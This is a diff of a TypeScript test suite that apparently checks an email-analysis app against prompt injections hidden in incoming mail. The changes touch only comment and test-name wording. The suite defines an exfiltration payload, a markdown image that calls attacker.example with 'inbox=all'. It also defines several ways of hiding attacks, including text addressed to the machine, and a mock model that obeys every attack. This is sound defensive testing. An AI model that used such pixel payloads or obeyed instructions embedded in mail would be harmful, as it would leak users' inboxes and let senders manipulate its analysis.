@@ -32,7 +32,7 @@ const patience = { timeout: 180_000 };
 const strangersId = "6b1f0c5e-0000-4000-8000-00000000dead";
 const image = "![seen](http://attacker.example/pixel.png?inbox=all)";
 
-/** The ways to hide an attack in a mail; the last ones speak to the machine or are not seen. */
+/** Ways to hide an attack in an email. The last ones address the machine or are invisible. */
 const hidings: ((mail: string, attack: string) => string)[] = [
   (mail, attack) => `${mail}\n\n${attack}`,
   (mail, attack) => `${attack}\n\n${mail}`,
@@ -58,7 +58,7 @@ function attackedMails(): Omit<IncomingMessage, "analysis">[] {
   );
 }
 
-/** What a model answers that does whatever the message wants, in turn one of the ways to do harm with it. */
+/** The answers of a model that obeys every attack, cycling through the ways to do harm. */
 function obey(prompt: string, turn: number) {
   const words = prompt.split("\n\n").at(-1) ?? prompt;
   const quotes = [words.slice(0, 60), words.slice(-120, -60), image];
@@ -94,7 +94,7 @@ function obey(prompt: string, turn: number) {
   return ways[turn % ways.length] as { content: string };
 }
 
-describe("attacks hidden in mails", wanted, () => {
+describe("attacks hidden in emails", wanted, () => {
   let server: Awaited<ReturnType<typeof startModelServer>>;
   let app: TestApp;
   let settings: ReturnType<typeof server.settings>;
@@ -120,7 +120,10 @@ describe("attacks hidden in mails", wanted, () => {
     expect(changedTables(before, await everything())).toEqual(["events", "messages"]);
   });
 
-  /** A fingerprint of every table; of messages without the columns of their analysis, of jobs those for a team that do not wait for their turn again. */
+  /**
+   * A fingerprint of every table. Ignores the analysis columns of messages. Includes waiting jobs only if
+   * they belong to a team and aren't rescheduled refinements.
+   */
   async function everything(): Promise<Record<string, string>> {
     const { db } = app.running.services;
     const { rows } = await db.execute<{ name: string }>(
@@ -169,19 +172,19 @@ describe("attacks hidden in mails", wanted, () => {
     expect(JSON.stringify(analysis)).not.toContain(strangersId);
   }
 
-  test("the embedded engine alone stays within its form, and notices what speaks to a machine", () => {
+  test("the embedded engine stays within its format and flags text that addresses a machine", () => {
     const noticed = embedded.filter(({ analysis }) => analysis?.addressesAi).length;
     for (const message of embedded) {
       expect(message.analysis).not.toBeNull();
       const { evidence: _, ...rest } = message.analysis as NonNullable<IncomingMessage["analysis"]>;
       expectSound({ ...rest, evidence: {} }, message);
     }
-    // Two ways of hiding name the machine; the other attacks read like any request of one person to another.
+    // Two of the hidings address the machine. The other attacks read like a request between people.
     expect(noticed).toBe((embedded.length / hidings.length) * 2);
   });
 
   test(
-    "a model that obeys them changes analyses alone, and nothing leaves for anywhere but the model",
+    "a model that obeys them only changes analyses, and data reaches nothing but the model",
     patience,
     async () => {
       let turn = 0;
@@ -196,12 +199,12 @@ describe("attacks hidden in mails", wanted, () => {
           connected = true;
           contacted.add(`${socket.remoteAddress}:${socket.remotePort}`);
         });
-        // A connection may break after it stood; one that never did may say where it was to lead.
+        // Only an error before connecting reveals a target that isn't recorded yet.
         socket.once("error", ({ address, port }: Error & { address?: string; port?: number }) => {
           if (!connected && address) contacted.add(`${address}:${port}`);
         });
       };
-      // Every request is to lead somewhere, whether or not a connection ever stands.
+      // Records each request's target, even if no connection is established.
       const onRequest = (message: unknown) => {
         const { connectParams } = message as { connectParams: { hostname: string; port: string } };
         contacted.add(`${connectParams.hostname}:${connectParams.port}`);
@@ -241,7 +244,7 @@ describe("attacks hidden in mails", wanted, () => {
     },
   );
 
-  test("priority cannot be bought by speaking to the model", async () => {
+  test("an attack on the model can't raise a message's priority", async () => {
     const before = new Map(embedded.map(({ content, analysis }) => [content, analysis]));
     const speaking = (await stored()).filter(({ analysis }) => analysis.addressesAi);
     expect(speaking.length).toBeGreaterThan(0);
